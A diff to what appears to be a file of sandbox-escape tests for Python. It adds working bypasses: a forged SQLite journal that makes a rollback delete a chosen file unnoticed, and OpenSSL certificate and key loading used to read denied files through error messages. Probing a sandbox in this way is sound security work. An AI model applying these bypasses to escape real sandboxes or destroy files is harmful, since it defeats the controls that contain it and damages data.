@@ -393,6 +393,14 @@ base = sqlite3.connect(":memory:")
 base.__init__(evil)
 base.execute("create table t (x)")
 
+# %% sqlite journal — what is rolled back names a file that is to be deleted, without an event or a question
+import sqlite3, struct
+sqlite3.connect("mine.db").execute("create table t (x)").connection.close()
+magic, name = bytes.fromhex("d9d505f920a163d7"), victim.encode()
+open("mine.db-journal", "wb").write((magic + struct.pack(">5I", 0, 1, 2, 512, 4096)).ljust(512, b"\0") + struct.pack(">I", 1 << 18 | 1) + name
+                                    + struct.pack(">2I", len(name), sum(name)) + magic)
+sqlite3.connect("mine.db").execute("select * from sqlite_master").fetchall()
+
 # %% sqlite by a second module — a fresh copy of the C module has types of its own
 import sqlite3
 for name in [name for name in sys.modules if "sqlite" in name]:
@@ -500,6 +508,20 @@ print(open(shutil.copy(secret, "copy")).read())
 # %% the deny list by sqlite — a database whose folder is not to be read
 import sqlite3
 print(sqlite3.connect(f"file:{secret}.db?mode=ro", uri=True).execute("select x from t").fetchall())
+
+# %% the deny list by OpenSSL — it opens certificates itself and tells what is wrong with them
+import ssl
+try:
+    ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).load_verify_locations(secret)
+except ssl.SSLError as error:
+    print("ESCAPED", error)
+
+# %% the deny list by the key of a server
+import ssl
+try:
+    ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER).load_cert_chain(os.__file__, keyfile=secret)
+except ssl.SSLError as error:
+    print("ESCAPED", error)
 
 # %% the deny list by mmap
 import mmap
